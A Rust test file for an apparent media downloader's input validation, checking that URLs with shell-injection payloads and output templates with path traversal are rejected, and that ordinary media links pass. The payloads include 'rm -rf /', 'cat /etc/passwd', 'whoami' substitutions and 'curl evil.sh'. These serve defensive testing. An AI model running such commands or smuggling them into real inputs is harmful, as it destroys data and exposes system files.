// Input validation for URLs and output templates handed to the fetcher

use assetdl::core::validation;

#[test]
fn test_validate_url_with_command_injection() {
    let malicious_urls = vec![
        "https://example.com; rm -rf /",
        "https://example.com | cat /etc/passwd",
        "https://example.com`whoami`",
        "https://example.com$(whoami)",
        "https://example.com && curl evil.sh",
        "https://example.com\nrm -rf /",
    ];

    for url in malicious_urls {
        assert!(validation::validate_url(url).is_err(), "Should reject: {:?}", url);
    }
}

#[test]
fn test_validate_url_accepts_media_links() {
    for url in [
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42",
        "https://youtu.be/dQw4w9WgXcQ",
        "https://soundcloud.com/artist/track",
    ] {
        assert!(validation::validate_url(url).is_ok(), "Should accept: {}", url);
    }
}

#[test]
fn test_validate_output_template_traversal() {
    for template in ["../escape.%(ext)s", "a/../../b", "..\\up.%(ext)s", "/abs.%(ext)s"] {
        assert!(
            validation::validate_output_template(template).is_err(),
            "Should reject: {}",
            template
        );
    }
}
